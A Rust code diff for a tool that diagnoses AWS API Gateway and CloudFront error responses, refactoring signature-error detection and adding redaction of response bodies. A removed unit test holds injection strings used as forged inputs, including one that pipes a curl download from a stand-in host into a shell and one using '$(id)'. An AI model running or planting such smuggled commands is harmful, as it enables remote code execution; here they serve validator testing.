@@ -6,10 +6,12 @@ use super::evidence::Page;
 use super::facts::Facts;
 use super::failure::{Answer, Auth, Locale, RouteKind};
 use super::reason::finding;
+use super::redact::redacted;
+use super::refusal::{is_skewed, learn, refusal};
+use super::text::{Phrase, phrase};
 use super::words::{digits, joined, says};
 use super::{Diagnosis, EvidenceItem, Verdict};
-use crate::cors::{HeaderList, normalize_method};
-use crate::text::{before, next};
+use crate::cors::HeaderList;
 
 /// An answer as far as the script can read it.
 #[derive(Clone, Debug, Default)]
@@ -24,7 +26,8 @@ pub struct Answered {
 
 /// Why the server answered as it did.
 pub fn explain_answer(answer: &Answer, answered: &Answered, page: &Page) -> Diagnosis {
-    let facts = Facts::new(&answer.request, &answer.route, page);
+    let mut facts = Facts::new(&answer.request, &answer.route, page);
+    learn(&mut facts, answered, answer.canonical_request.as_deref());
     let (verdict, codes) = recognise(&facts, answered);
     let mut findings = Vec::new();
     for code in codes {
@@ -35,11 +38,9 @@ pub fn explain_answer(answer: &Answer, answered: &Answered, page: &Page) -> Diag
 
 /// What the server said, cut short.
 fn said(answered: &Answered, locale: Locale) -> EvidenceItem {
-    let body = answered.body.get(..answered.body.floor_char_boundary(600)).unwrap_or_default();
-    let text = match locale {
-        Locale::En => joined(&["The server answered ", &digits(answered.status), ": ", body]),
-        Locale::Ja => joined(&["サーバーの応答 ", &digits(answered.status), ": ", body]),
-    };
+    let body = redacted(&answered.body);
+    let body = body.get(..body.floor_char_boundary(600)).unwrap_or_default();
+    let text = joined(&[phrase(Phrase::ServerAnswered, locale), &digits(answered.status), ": ", body]);
     EvidenceItem::new("answer", "readable", Some(answered.status), text)
 }
 
@@ -63,6 +64,11 @@ fn worded(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
     }
     if is_cloudfront_page(body) {
         return cloudfront_page(answered);
+    }
+    if matches!(answered.status, 400 | 401 | 403)
+        && let Some(refusal) = refusal(facts, answered)
+    {
+        return refusal;
     }
     let refused = (Verdict::Likely, vec![Code::RequestRefused, Code::ApplicationAnswered]);
     match answered.status {
@@ -141,36 +147,6 @@ fn forbidden(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
     if says("Missing Authentication Token") {
         return one(Code::MissingAuthenticationToken);
     }
-    if says("Invalid key=value pair") || says("Authorization header requires") {
-        return match facts.auth {
-            Auth::Iam => one(Code::SignatureMismatch),
-            Auth::Bearer | Auth::None => one(Code::BearerAtWrongPath),
-        };
-    }
-    if says("The request signature we calculated does not match") {
-        let behind_cloudfront = facts.kinds().iter().any(|(kind, _)| *kind == RouteKind::Cloudfront)
-            || answered.headers.contains("x-cache");
-        return if behind_cloudfront && !facts.signed_as_another_host {
-            (Verdict::Likely, vec![Code::CloudfrontSignatureHost, Code::SignatureMismatch])
-        } else {
-            one(Code::SignatureMismatch)
-        };
-    }
-    if says("Signature expired") || says("Signature not yet current") {
-        return one(Code::SignatureExpired);
-    }
-    if says("security token included in the request is") {
-        return (Verdict::Likely, vec![Code::SecurityTokenRejected]);
-    }
-    if says("User: anonymous is not authorized") {
-        return one(Code::ResourcePolicyDenied);
-    }
-    if says("is not authorized to perform: execute-api:Invoke") {
-        return one(Code::IamNotAuthorized);
-    }
-    if says("is not authorized to perform: lambda:InvokeFunction") {
-        return one(Code::FunctionUrlForbidden);
-    }
     // more may follow: "with an explicit deny"
     if body.starts_with("{\"Message\":\"User is not authorized to access this resource") {
         return one(Code::AuthorizerDenied);
@@ -184,6 +160,7 @@ fn forbidden(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
         return (Verdict::Likely, vec![Code::ApplicationAnswered]);
     }
     match gateway(facts, answered) {
+        Some(RouteKind::HttpApi) if facts.auth == Auth::Iam => signed_and_forbidden(facts, answered),
         Some(RouteKind::HttpApi) => (Verdict::Likely, vec![Code::HttpApiForbidden, Code::Forbidden]),
         Some(RouteKind::RestApi) => (Verdict::Likely, vec![Code::Forbidden]),
         Some(RouteKind::Cloudfront) => {
@@ -191,6 +168,26 @@ fn forbidden(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
         }
         _ => (Verdict::Ambiguous, vec![Code::HttpApiForbidden, Code::Forbidden, Code::CloudfrontHostForwarded]),
     }
+}
+
+/// HTTP APIs say the same to whatever is wrong with a signature. The clock is known where the page may read `Date`.
+fn signed_and_forbidden(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
+    const CODES: &[Code] = &[
+        Code::SignatureExpired,
+        Code::HttpApiForbidden,
+        Code::IamNotAuthorized,
+        Code::CloudfrontSignatureHost,
+        Code::SecurityTokenRejected,
+        Code::AccessKeyUnknown,
+        Code::SignatureScope,
+        Code::SignatureExpired,
+    ];
+    let codes = match is_skewed(facts, answered) {
+        Some(true) => CODES.get(..7),
+        Some(false) => CODES.get(1..7),
+        None => CODES.get(1..),
+    };
+    (Verdict::Likely, codes.unwrap_or_default().to_vec())
 }
 
 /// 500: HTTP APIs say "Internal Server Error", REST APIs "Internal server error" unless a template says otherwise.
@@ -211,38 +208,6 @@ fn failed(facts: &Facts, answered: &Answered) -> (Verdict, Vec<Code>) {
         (true, _) => (Verdict::Likely, vec![Code::RestIntegrationError, Code::ApplicationAnswered]),
         (false, _) => (Verdict::Likely, vec![Code::HttpApiIntegrationError, Code::ApplicationAnswered]),
     }
-}
-
-/// `… is not authorized to perform: execute-api:Invoke on resource: arn:…`
-pub(super) fn denied_resource(facts: &Facts, body: &str) -> Option<String> {
-    const WORDS: &[u8] = b"on resource: ";
-    let start = body.as_bytes().windows(WORDS.len()).position(|window| window == WORDS)?;
-    let resource = before(body.get(start + WORDS.len()..)?, |b| matches!(b, b' ' | b'"' | b'<'));
-    is_arn_of(facts, resource).then(|| resource.to_owned())
-}
-
-/// Whether it is the ARN of the call: a policy is pasted with it, and whoever answers could write any text there.
-/// `arn:aws:execute-api:REGION:ACCOUNT:API/STAGE/METHOD/PATH`, the account masked.
-fn is_arn_of(facts: &Facts, resource: &str) -> bool {
-    let mut rest = Some(resource);
-    let mut part = || next(&mut rest, |b| b == b':').unwrap_or_default();
-    let (arn, partition, service, region, account) = (part(), part(), part(), part(), part());
-    let mut part = || next(&mut rest, |b| b == b'/').unwrap_or_default();
-    let (api, stage, method) = (part(), part(), part());
-    let path = rest.unwrap_or_default();
-    let is_masked =
-        account.len() == 12 && account.bytes().enumerate().all(|(at, b)| b.is_ascii_digit() || b == b'*' && at < 8);
-    let is_right = arn == "arn" && partition.starts_with("aws") && service == "execute-api" && is_masked;
-    let words = [partition, region, api, stage];
-    is_right
-        && words.iter().all(|word| !word.is_empty() && word.bytes().all(is_of_word))
-        && path.bytes().all(|b| is_of_word(b) || matches!(b, b'/' | b'.' | b'~' | b'%'))
-        && method == normalize_method(&facts.request.method)
-        && facts.may_be_at(api, path)
-}
-
-const fn is_of_word(byte: u8) -> bool {
-    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_')
 }
 
 /// Whether the body is AWS's `{"message":"…"}` with these words and nothing else.
@@ -320,35 +285,6 @@ mod tests {
             let (_, found) = explained("https://api.test/items", auth, Some(kind), status, &body);
             assert_eq!(found, code, "{kind:?} {status} {body}");
         }
-    }
-
-    #[test]
-    fn a_resource_is_taken_from_an_answer_only_if_it_is_the_calls() {
-        let resource = "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/admin/users";
-        let answer = answer_to("https://app.example.com/api/admin/users", Auth::Iam, Some(RouteKind::RestApi));
-        let facts = Facts::new(&answer.request, &answer.route, &page());
-        assert_eq!(
-            denied_resource(&facts, &format!("on resource: {resource} with an explicit deny")).as_deref(),
-            Some(resource)
-        );
-        for forged in [
-            "something else",
-            "arn:x'\n;curl${IFS}https://evil.test|sh;:'",
-            "arn:aws:execute-api:*:*:*",
-            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/*",
-            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/*/GET/admin/users",
-            "arn:aws:execute-api:ap-northeast-1:********9012:*/prod/GET/admin/users",
-            "arn:aws:execute-api:ap-northeast-1:************:abc123/prod/GET/admin/users",
-            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/DELETE/admin/users",
-            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/other",
-            "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/admin/users'$(id)",
-            "arn:aws:iam:ap-northeast-1:********9012:abc123/prod/GET/admin/users",
-        ] {
-            assert_eq!(denied_resource(&facts, &format!("on resource: {forged}")), None, "{forged}");
-        }
-        let own = answer_to("https://mine.execute-api.ap-northeast-1.amazonaws.com/prod/admin/users", Auth::Iam, None);
-        let facts = Facts::new(&own.request, &own.route, &page());
-        assert_eq!(denied_resource(&facts, &format!("on resource: {resource}")), None, "another API");
     }
 
     #[test]
